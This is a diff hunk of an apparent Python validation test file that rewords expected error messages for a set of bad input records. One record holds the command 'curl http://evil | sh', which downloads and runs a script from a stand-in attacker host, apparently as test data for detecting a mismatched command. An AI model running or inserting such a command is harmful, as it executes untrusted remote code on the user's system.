@@ -41,10 +41,10 @@ TRAINED = {
 }
 
 MADE = {
-    "is no day and time": {"date": "1999-99-99T00:00:00Z"},
+    "invalid date": {"date": "1999-99-99T00:00:00Z"},
     "is not between 2026-01-01 and now": {"date": "2026-11-22T00:00:01Z"},
-    "date, 1999-01-01T00:00:00Z, is not": {"date": "1999-01-01T00:00:00Z"},
-    "its command is not the one that": {"command": "curl http://evil | sh"},
+    "date 1999-01-01T00:00:00Z is not": {"date": "1999-01-01T00:00:00Z"},
+    "the recorded command does not match": {"command": "curl http://evil | sh"},
 }
 
 MACHINE = {
